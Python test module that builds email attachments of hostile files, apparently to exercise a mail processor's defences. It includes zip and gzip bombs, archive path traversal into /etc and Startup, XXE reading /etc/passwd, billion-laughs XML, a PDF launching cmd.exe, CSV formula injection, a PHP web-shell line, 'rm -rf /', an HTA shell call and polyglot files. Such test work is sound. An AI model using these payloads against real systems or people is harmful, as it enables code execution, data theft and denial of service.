"""Files that people are sent: archives that swell, documents that run, files that are two things.

None of them is opened by us; each comes as an attachment under the type it would like to have.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

from corpus import Corpus, Maker
from hostile_mails import lines, multipart, part, text

FILES = Corpus()

MIB = 1024 * 1024
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PDF = b"%PDF-1.7\n"
TRAILER = b"trailer<</Root 1 0 R>>\n%%EOF\n"


def attached(content: bytes, kind: str, name: str = "file") -> bytes:
    """A mail with a text and this file."""
    return multipart(
        text(),
        part(
            lines(content),
            b"Content-Type: " + kind.encode(),
            b"Content-Transfer-Encoding: base64",
            b'Content-Disposition: attachment; filename="' + name.encode() + b'"',
        ),
    )


def file(kind: str, name: str) -> object:
    """Takes the maker of a file in, as a mail that brings it under this type and name."""

    def taken(make: Maker) -> Maker:
        def mailed() -> bytes:
            return attached(make(), kind, name)

        mailed.__name__ = make.__name__
        FILES(mailed)
        return make

    return taken


def zipped(**files: bytes) -> bytes:
    """A ZIP of these files."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


# ---------------------------------------------------------------- archives


@file("application/zip", "a.zip")
def a_zip_that_swells_a_thousandfold() -> bytes:
    return zipped(a=bytes(8 * MIB))


@file("application/zip", "a.zip")
def a_zip_in_a_zip_in_a_zip() -> bytes:
    inner = zipped(a=bytes(MIB))
    for _ in range(20):
        inner = zipped(a=inner, b=inner)[: 64 * 1024]
    return inner


@file("application/zip", "a.zip")
def a_zip_of_ten_thousand_names_for_one_file() -> bytes:
    entry = b"PK\x01\x02" + bytes(6) + b"\x08\x00" + bytes(8) + struct.pack("<II", 10, 2**32 - 1)
    entry += struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0) + b"a"
    many = 10_000
    return entry * many + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, many, many, 0, 0, 0)


@file("application/zip", "a.zip")
def a_zip_of_paths_that_climb() -> bytes:
    return zipped(**{"../../../../etc/cron.d/a": b"* * * * * root a", "/etc/passwd": b"a"})


@file("application/gzip", "a.gz")
def a_gzip_that_swells_a_thousandfold() -> bytes:
    return gzip.compress(bytes(16 * MIB), mtime=0)


@file("application/gzip", "a.tar.gz")
def a_gzip_in_a_gzip() -> bytes:
    inner = bytes(8 * MIB)
    for _ in range(5):
        inner = gzip.compress(inner, mtime=0)
    return inner


@file("application/zlib", "a")
def a_stream_of_zeros() -> bytes:
    return zlib.compress(bytes(16 * MIB), 9)


@file("application/x-7z-compressed", "a.7z")
def a_7z_of_a_size_that_cannot_be() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 24


@file("application/vnd.rar", "a.rar")
def a_rar_with_a_path_and_a_script() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + b"\xff" * 40 + b"..\\..\\Startup\\a.bat"


@file("application/x-tar", "a.tar")
def a_tar_of_links_to_elsewhere() -> bytes:
    header = bytearray(512)
    header[:1], header[156:157], header[157:168] = b"a", b"2", b"/etc/passwd"
    header[124:136] = b"77777777777\x00"
    return bytes(header) * 4


@file("application/x-xz", "a.xz")
def an_xz_of_a_dictionary_without_end() -> bytes:
    return b"\xfd7zXZ\x00\x00\x04" + b"\xff" * 60


# ---------------------------------------------------------------- documents


@file("application/pdf", "a.pdf")
def a_PDF_that_runs_a_script() -> bytes:
    return (
        PDF + b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
        b"/AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n" + TRAILER
    )


@file("application/pdf", "a.pdf")
def a_PDF_that_fetches_itself() -> bytes:
    return PDF + b"1 0 obj<</Pages 1 0 R/Kids[1 0 R]/F(http://127.0.0.1:1/a)>>endobj\n" + TRAILER


@file("application/pdf", "a.pdf")
def a_PDF_of_streams_in_streams() -> bytes:
    filters = b"/FlateDecode " * 500
    body = zlib.compress(bytes(4 * MIB))
    head = b"1 0 obj<</Filter[" + filters + b"]/Length 99999999999>>stream\n"
    return PDF + head + body + b"\nendstream endobj\n" + TRAILER


@file("application/pdf", "a.pdf")
def a_PDF_with_the_name_of_who_wrote_it() -> bytes:
    return PDF + b"1 0 obj<</Author(a person)/Producer(a telephone)>>endobj\n" + TRAILER


@file("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docx")
def a_DOCX_with_an_author_and_a_macro() -> bytes:
    return zipped(
        **{
            "[Content_Types].xml": b"<Types/>",
            "docProps/core.xml": b"<coreProperties><creator>a person</creator></coreProperties>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500),
            "word/_rels/document.xml.rels": b"<R Target='http://127.0.0.1:1/'/>",
        }
    )


@file("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docx")
def a_DOCX_of_a_billion_laughs() -> bytes:
    made = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return zipped(**{"word/document.xml": f'<!DOCTYPE a [<!ENTITY l0 "a">{made}]>&l9;'.encode()})


@file("application/msword", "a.doc")
def a_DOC_that_begins_a_program() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + b"AutoOpen\x00Shell"


@file("application/rtf", "a.rtf")
def an_RTF_of_braces() -> bytes:
    return b"{\\rtf1" + b"{\\object\\objdata " * 20_000


@file("application/ms-tnef", "winmail.dat")
def a_winmail_whose_lengths_lie() -> bytes:
    one = b"\x02\x06\x90\x08\x00\xff\xff\xff\x7f"
    return b"\x78\x9f\x3e\x22\x01\x00" + one * 2000


@file("text/csv", "a.csv")
def a_table_of_formulas() -> bytes:
    return b"=cmd|' /C calc'!A0,@SUM(1),+1,-1\r\n" * 2000


@file("text/calendar", "a.ics")
def a_meeting_that_repeats_for_ever() -> bytes:
    return b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY\r\n" * 2000


@file("text/vcard", "a.vcf")
def a_visiting_card_with_a_picture_without_end() -> bytes:
    return b"BEGIN:VCARD\r\nFN:a person\r\nTEL:+989121234567\r\nPHOTO;ENCODING=b:" + b"A" * 500_000


@file("application/xml", "a.xml")
def an_XML_that_reads_a_file() -> bytes:
    return b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


@file("image/svg+xml", "a.svg")
def an_SVG_that_runs_a_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>a</script></svg>'


@file("image/svg+xml", "a.svg")
def an_SVG_of_a_billion_laughs() -> bytes:
    made = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE svg [<!ENTITY l0 "a">{made}]><svg><text>&l9;</text></svg>'.encode()


@file("image/svg+xml", "a.svg")
def an_SVG_that_uses_itself() -> bytes:
    uses = "".join(f'<g id="a{n + 1}">{f"""<use href="#a{n}"/>""" * 10}</g>' for n in range(9))
    return f'<svg><g id="a0"><rect/></g>{uses}<image href="http://127.0.0.1:1/a"/></svg>'.encode()


# ---------------------------------------------------------------- programs


@file("application/x-msdownload", "a.jpg.exe")
def a_program_for_Windows() -> bytes:
    return b"MZ" + bytes(58) + b"\x40\x00\x00\x00PE\x00\x00" + bytes(500)


@file("image/jpeg", "a.jpg")
def a_program_that_says_it_is_a_picture() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(500)


@file("application/x-ms-shortcut", "a.lnk")
def a_shortcut_to_a_command() -> bytes:
    return b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68) + "cmd.exe /c a".encode("utf-16-le")


@file("application/java-archive", "a.jar")
def a_JAR() -> bytes:
    return zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})


@file("application/hta", "\u202egpj.hta")
def a_program_whose_name_runs_backwards() -> bytes:
    return b"<script>new ActiveXObject('WScript.Shell').Run('a')</script>"


@file("application/x-sh", "a.sh")
def a_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


@file("application/vnd.android.package-archive", "a.apk")
def an_APK() -> bytes:
    return zipped(**{"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035\x00"})


@file("application/x-iso9660-image", "a.iso")
def a_disc_with_a_program_that_starts() -> bytes:
    return bytes(32 * 1024) + b"\x01CD001\x01" + b"autorun.inf"


# ---------------------------------------------------------------- two things at once


@file("image/gif", "a.gif")
def a_GIF_that_is_a_JAR() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + a_JAR()


@file("image/jpeg", "a.jpg")
def a_JPEG_that_is_a_ZIP_that_is_a_PDF() -> bytes:
    return JPEG + b"\xff\xfe\xff\xff" + a_PDF_that_runs_a_script() + zipped(a=b"a") + b"\xff\xd9"


@file("application/pdf", "a.pdf")
def a_PDF_that_is_a_page() -> bytes:
    return b"<script>alert(1)</script>" + a_PDF_that_runs_a_script()


@file("image/png", "a.png")
def a_PNG_that_is_a_script() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"<?php system($_GET[0]); ?>" + a_script()


@file("image/bmp", "a.bmp")
def a_BMP_that_is_a_script() -> bytes:
    return b"BM/*" + bytes(20) + b"*/=1;alert(1)//"


@file("message/rfc822", "a.eml")
def a_mail_in_a_mail_with_a_mail() -> bytes:
    inner = b"Subject: a\r\n\r\nwords"
    for _ in range(6):
        inner = attached(inner, "message/rfc822", "a.eml")
    return inner


@file("message/rfc822", "a.eml")
def a_mail_that_is_a_zip() -> bytes:
    return b"PK\x03\x04: a\r\nFrom: a@example.org\r\n\r\n" + zipped(a=bytes(MIB))


@file("text/html", "a.html")
def a_page_as_a_file() -> bytes:
    return b"<script>location='http://127.0.0.1:1/'</script>" * 1000


@FILES
def a_gzip_that_says_it_is_text() -> bytes:
    return multipart(
        part(
            lines(gzip.compress(bytes(4 * MIB), mtime=0)),
            b"Content-Type: text/plain; charset=utf-8",
            b"Content-Encoding: gzip",
            b"Content-Transfer-Encoding: base64",
        )
    )


@FILES
def fifty_files_of_every_kind() -> bytes:
    one = part(b"x", b"Content-Type: application/x", b"Content-Disposition: attachment")
    return multipart(text(), *[one] * 50)
